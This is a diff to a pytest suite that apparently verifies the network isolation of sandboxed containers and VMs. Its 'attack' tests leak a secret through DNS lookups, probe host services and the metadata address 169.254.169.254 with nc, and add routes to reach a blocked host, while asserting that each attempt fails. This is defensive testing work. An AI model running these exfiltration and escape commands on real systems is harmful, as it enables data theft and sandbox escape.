@@ -2,12 +2,13 @@
 gateway, and services of the host."""
 
 import os
+import socket
 import subprocess
 from contextlib import ExitStack
 
 import pytest
 from support import frames
-from support.attack_table import callers
+from support.attack_table import callers, modes
 from support.attacks import Cell, UserCaller
 from support.commands import wait_for
 from support.frames import udp
@@ -94,8 +95,8 @@ def test_other_addresses(only, internet):
     before = len(internet.reached)
     for where in (f"{FAR}:{PORT_TOO}", f"{OTHER}:{PORT}", f"{NEAR}:{PORT}", f"other.example.net:{PORT}"):
         assert "from" not in only.get(where)
-    for address, port in ((FAR, PORT), (OTHER, PORT)):  # the rule for FAR is about both protocols
-        only.shell(f"echo x | timeout 3 nc -u -w 1 {address} {port}")
+    both = (FAR, OTHER)  # the rule for FAR is about both protocols
+    only.shell_at_once(*(f"echo x | timeout 3 nc -u -w 1 {address} {PORT}" for address in both))
     only.shell(
         f"ip route add {OTHER}/32 via 10.77.0.1; ip addr add 10.77.9.9/16 dev eth0; "
         f"timeout 5 wget -q -O - http://{OTHER}:{PORT}/; ip addr del 10.77.9.9/16 dev eth0"
@@ -107,8 +108,7 @@ def test_other_addresses(only, internet):
 @pytest.mark.attack("sends a secret as part of a name to look up, to each name server in reach")
 def test_names_as_messages(free, only, internet):
     servers = ("10.77.0.1", uplink.UPSTREAM, FAR, "127.0.0.1")
-    for server in servers:
-        only.shell(f"timeout 20 nslookup secret-{server}.example.org {server}")
+    only.shell_at_once(*(f"timeout 20 nslookup secret-{server}.example.org {server}" for server in servers))
     assert not [name for name in internet.asked if "secret" in name]
     assert free.name in only.shell(f"nslookup {free.name} 10.77.0.1").out  # neighbours are known
     free.shell("nslookup open.example.org")
@@ -137,8 +137,8 @@ def test_services_of_the_host(free, internet, program):
         server.setblocking(False)
         port = server.getsockname()[1]
         gateways = ("10.77.0.1", uplink.GATEWAY, uplink.OWN, uplink.UPSTREAM, "169.254.169.254")
-        for address in (HOST, HOST_TOO, "127.0.0.1", "0.0.0.0", *gateways):
-            free.shell(f"echo | timeout 4 nc -w 2 {address} {port}")
+        addresses = (HOST, HOST_TOO, "127.0.0.1", "0.0.0.0", *gateways)
+        free.shell_at_once(*(f"echo | timeout 4 nc -w 2 {address} {port}" for address in addresses))
         for address in ("127.0.0.1", "127.0.0.53", "0.0.0.0", HOST_TOO):
             frames.send(free, udp((free.mac, free.address), (BRIDGE, address), (port, port), MARK))
         with pytest.raises(BlockingIOError):
@@ -154,10 +154,9 @@ def test_ipv6(only, internet):
     assert seen.code != 0
 
 
-@pytest.mark.attack("gets the address of an instance that had more rights, with its open connections", mode="container")
+@modes("container")
+@pytest.mark.attack("gets the address of an instance that had more rights, with its open connections")
 def test_address_used_again(caller, mode, free, internet):
-    if mode != "container":
-        return
     before = Inside(caller, mode, "all")
     assert before.get(f"{OTHER}:{PORT}")
     before.end()
@@ -170,13 +169,9 @@ def test_address_used_again(caller, mode, free, internet):
 
 
 @callers("root")
-@pytest.mark.attack("leaves from a QEMU that its guest has taken over, which is in the switch", mode="vm")
+@modes("vm")
+@pytest.mark.attack("leaves from a QEMU that its guest has taken over, which is in the switch")
 def test_a_qemu(caller, mode, only, internet):
-    import socket
-
-    if mode != "vm":
-        return
-
     def connect():
         return socket.create_connection((FAR, PORT), timeout=3)
 
